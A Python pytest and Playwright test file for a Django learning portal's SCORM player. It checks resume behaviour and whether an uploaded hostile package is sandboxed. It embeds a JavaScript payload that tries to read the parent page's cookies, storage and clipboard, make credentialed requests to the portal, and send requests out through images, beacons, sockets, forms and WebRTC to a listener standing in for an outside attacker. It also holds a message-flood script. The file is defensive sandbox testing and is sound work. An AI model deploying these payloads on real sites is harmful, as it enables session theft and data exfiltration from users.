"""A package in Chromium: it runs and its place is kept (T73); a hostile one reaches nothing (T72, T75)."""

import http.server
import threading

import pytest
from django.test import Client
from django.urls import reverse
from playwright.sync_api import expect

from learning.packages.models import PackageTry
from tests.journeys.conftest import Visitor
from tests.learning.packages.made import manifest, offered, resource, scorm_12
from tests.signing_in import cookies_of, sign_in
from tests.world import build_world

pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("assets")]


@pytest.fixture
def learner(chromium, live_server, settings):
    """A browser in which the person of a world is signed in, with that world."""
    settings.PACKAGES_URL = live_server.url.replace("//localhost", "//packages.localhost")
    world, faults = build_world(), []
    context = chromium.new_context(viewport={"width": 1024, "height": 768})
    context.add_cookies(cookies_of(sign_in(Client(), world.person), live_server.url))
    context.set_default_timeout(10_000)
    visitor = Visitor(context, live_server.url, faults)
    visitor.world = world
    yield visitor
    context.close()


def content(page):
    return page.frame_locator("[data-package] iframe").frame_locator("#part")


def test_a_learner_plays_stops_and_carries_on_where_they_were(learner):
    package = offered(scorm_12(), learner.world.tutor)
    page = learner.open(reverse("packages:about", args=[package.pk])).check().click("Start").page
    expect(content(page).get_by_role("heading", name="Bikes")).to_be_visible(timeout=20_000)
    expect(page.locator("[data-package] [role=status]")).to_have_text("Saved")
    learner.check()
    page.reload()
    expect(page.locator("[data-package] [role=status]")).to_have_text("Saved")
    assert [one.title() for one in page.frames if "/c/index.html" in one.url] == ["resume/seen"]
    content(page).get_by_role("button", name="I have read it").click()
    expect(page.locator("[data-package] [role=status]")).to_have_text("You can go back now. Your place is saved.")
    learner.follow("Stop for now").sees("Done and passed").sees("90 out of 100.").check()
    going = PackageTry.objects.get()
    assert (going.success, going.score, going.is_too_quick) == ("passed", 90, True)
    assert [fault for fault in learner.faults if "evil.example" not in fault] == []


#: Each writes its name into the page when it got through. "said" is where they write.
ESCAPES = """
var said = [];
function through(name) { said.push(name); }
function quietly(name, act) { try { act(function () { through(name); }); } catch (error) {} }
addEventListener("load", function () {
  quietly("parent", function (got) { if (top.document.cookie !== undefined) got(); });
  quietly("cookie", function (got) { if (document.cookie.indexOf("session") >= 0) got(); });
  quietly("storage", function (got) { if (top.localStorage) got(); });
  quietly("top", function () { top.location = "LISTENER/top"; });
  quietly("popup", function (got) { if (window.open("LISTENER/popup")) got(); });
  quietly("fetch", function (got) { fetch("PORTAL/learn/", {credentials: "include"}).then(got, function () {}); });
  quietly("worker", function (got) { navigator.serviceWorker.register("page.js").then(got, function () {}); });
  window.send_form = (function () { var f = document.createElement("form"); f.action = "LISTENER/form"; f.method = "post"; document.body.append(f); f.submit(); });
  quietly("download", function () { var a = document.createElement("a"); a.href = "page.js"; a.download = "x.js"; document.body.append(a); a.click(); });
  quietly("clipboard", function (got) { navigator.clipboard.readText().then(got, function () {}); });
  quietly("webrtc", function (got) { var p = new RTCPeerConnection({iceServers: [{urls: "stun:LISTENED"}]}); p.createDataChannel("x"); p.onicecandidate = function (e) { if (e.candidate) got(); }; p.createOffer().then(function (o) { return p.setLocalDescription(o); }).catch(function () {}); });
  quietly("image", function () { new Image().src = "LISTENER/image"; });
  quietly("beacon", function () { navigator.sendBeacon("LISTENER/beacon", "x"); });
  quietly("socket", function () { new WebSocket("LISTENER/socket".replace("http", "ws")); });
  quietly("events", function () { new EventSource("LISTENER/events"); });
  quietly("script", function () { var s = document.createElement("script"); s.src = "LISTENER/script"; document.head.append(s); });
  quietly("sheet", function () { var s = document.createElement("link"); s.rel = "stylesheet"; s.href = "LISTENER/sheet"; document.head.append(s); });
  quietly("prefetch", function () { var s = document.createElement("link"); s.rel = "prefetch"; s.href = "LISTENER/prefetch"; document.head.append(s); });
  quietly("frame", function () { var s = document.createElement("iframe"); s.src = "LISTENER/frame"; document.body.append(s); });
  quietly("font", function () { new FontFace("x", "url(LISTENER/font)").load(); });
  quietly("dialog", function (got) { if (confirm("?")) got(); });
  setTimeout(function () { document.getElementById("done").textContent = "tried"; }, 700);
});
"""
FLOOD = b"addEventListener('load', function () { var api = parent.API; api.LMSInitialize(''); for (var n = 0; n < 400; n++) { api.LMSSetValue('cmi.suspend_data', 'x' + n); api.LMSCommit(''); } });"


class Listener(http.server.BaseHTTPRequestHandler):
    """Somebody outside. Notes each request that arrives."""

    def do_GET(self):
        self.server.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the name that the library calls

    def log_message(self, *_args):
        pass


@pytest.fixture
def listener():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        server.heard = []
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield server
        server.shutdown()


def test_t72_t75_a_hostile_package_reaches_neither_the_portal_nor_anybody_outside(learner, listener, live_server):
    outside = f"127.0.0.1:{listener.server_address[1]}"
    script = (
        ESCAPES.replace("LISTENER", f"http://{outside}").replace("LISTENED", outside).replace("PORTAL", live_server.url)
    )
    package = offered(scorm_12(**{"page.js": script.encode()}), learner.world.tutor)
    page = learner.open(reverse("packages:about", args=[package.pk])).page
    downloads, popups, dialogs = [], [], []
    page.on("download", lambda one: downloads.append(one))
    page.on("popup", lambda one: popups.append(one))
    page.on("dialog", lambda one: (dialogs.append(one), one.dismiss()))
    learner.click("Start")
    expect(content(page).get_by_role("button", name="tried")).to_be_visible(timeout=20_000)
    hostile = next(one for one in page.frames if "/c/index.html" in one.url)
    assert hostile.evaluate("said") == []
    hostile.evaluate("send_form()")  # Chromium puts a page of its own in place of the frame
    expect(content(page).get_by_role("button", name="tried")).to_have_count(0)
    assert (listener.heard, downloads, popups, dialogs) == ([], [], [], [])
    assert page.url.startswith(live_server.url), "the page around it is still there"
    assert PackageTry.objects.get().states.get("part-1", {}) == {}


def test_t72_a_flood_of_messages_is_cut_off(learner):
    listed = manifest('<item identifier="p" identifierref="r"><title>P</title></item>', resource("r", "index.html"))
    package = offered(scorm_12(listed, **{"page.js": FLOOD}), learner.world.tutor)
    page = learner.open(reverse("packages:about", args=[package.pk])).click("Start").page
    expect(page.get_by_text("We stopped it.")).to_be_visible(timeout=20_000)
    assert page.locator("iframe").count() == 0
